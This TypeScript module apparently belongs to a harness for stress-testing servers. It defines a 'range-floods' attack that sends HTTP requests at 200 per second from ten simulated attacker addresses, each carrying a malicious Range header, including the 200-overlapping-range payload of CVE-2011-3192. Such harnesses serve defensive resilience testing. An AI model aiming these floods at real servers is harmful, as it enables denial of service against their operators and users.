import { type Attack, attackerAddresses } from './attack.js';
import { askFor } from './door.js';
import { Flood } from './flood.js';
import { atRate } from './pace.js';

const perSecond = 200;
const addresses = 10;
const rangesPerRequest = 200;

const overlapping = Array.from({ length: rangesPerRequest }, (_, index) => `${index}-`).join(',');
const tiny = Array.from({ length: rangesPerRequest }, (_, index) => `${index * 2}-${index * 2}`).join(',');

/** Many overlapping ranges (CVE-2011-3192), many tiny ones, a single byte, the last byte, and what is past the end, in turn. */
const ranges = [overlapping, tiny, '0-0', '-1', '999999999-'];

export const rangeFloods: Attack = {
  name: 'range-floods',
  title: 'range floods',
  rate: `${perSecond}/s from ${addresses} addresses, ${rangesPerRequest} ranges or one byte`,
  async run(door, tally, over) {
    const flood = new Flood(door, tally, over, attackerAddresses(addresses));
    const short = door.complete.at(-1) ?? '';
    await atRate({ perSecond, most: 500 }, over, (index) => {
      const { path, headers } = askFor(door, short, 'video.mp4');
      const range = `bytes=${ranges[index % ranges.length]}`;
      return flood.ask(index, { path, headers: { ...headers, range } });
    });
  },
};
